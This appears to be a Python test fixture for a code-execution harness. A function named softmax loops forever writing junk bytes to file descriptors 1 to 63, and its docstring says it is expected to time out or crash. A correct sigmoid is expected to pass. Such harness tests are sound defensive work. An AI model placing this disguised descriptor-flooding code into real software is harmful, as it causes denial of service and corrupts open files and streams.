"""Writes for ever to every descriptor that takes it.

softmax  timeout|crashed|failed|error
sigmoid  passed
"""

import os

import numpy as np


def softmax(logits):
    while True:
        for descriptor in range(1, 64):
            try:
                os.write(descriptor, b"\xff" * 65536)
            except OSError:
                pass


def sigmoid(z):
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))
